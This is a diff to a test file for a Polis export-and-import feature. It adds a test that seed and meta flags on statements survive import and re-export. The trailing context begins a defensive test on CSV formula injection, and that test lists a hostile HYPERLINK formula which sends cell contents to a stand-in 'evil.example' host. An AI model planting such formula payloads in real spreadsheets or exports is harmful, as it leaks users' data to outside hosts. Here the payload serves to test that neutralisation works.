@@ -115,6 +115,38 @@ describe('Polis export and import', () => {
     expect(report.participants.length).toBe(a.imported.participants);
   });
 
+  it('a newer export marks seed and meta statements; they are kept as such and exported again', async () => {
+    const res = await importFiles({
+      'comments.csv':
+        'comment-id,comment-body,timestamp,author-id,agrees,disagrees,moderated,is-seed,is-meta,group-informed-consensus\n' +
+        '0,Buses should be free,1,0,1,0,1,true,false,0.5\n' +
+        '1,I live in the town,2,1,1,0,1,false,true,0.5\n' +
+        '2,Cut the fares,3,2,0,1,1,false,false,0.5\n',
+      'votes.csv': 'timestamp,datetime,comment-id,voter-id,vote\n1,x,0,7,1\n2,x,1,7,1\n3,x,2,8,-1\n',
+    });
+    expect(res.statusCode).toBe(201);
+    const id = res.json<Imported>().conversation.id;
+    const rows = await t.database.db
+      .select({ text: statements.text, seed: statements.seed, meta: statements.meta })
+      .from(statements)
+      .where(eq(statements.conversationId, id))
+      .orderBy(statements.number);
+    expect(rows).toEqual([
+      { text: 'Buses should be free', seed: true, meta: false },
+      { text: 'I live in the town', seed: false, meta: true },
+      { text: 'Cut the fares', seed: false, meta: false },
+    ]);
+    const exported = parse((await exportAll(id))['comments.csv'] ?? '', { columns: true }) as Record<
+      string,
+      string
+    >[];
+    expect(exported.map((r) => [r['is-seed'], r['is-meta']])).toEqual([
+      ['true', 'false'],
+      ['false', 'true'],
+      ['false', 'false'],
+    ]);
+  });
+
   it('statements a spreadsheet would run as formulas are exported neutralised, and re-import as written', async () => {
     const hostile = [
       '=HYPERLINK("http://evil.example/?"&A1,"Click")',
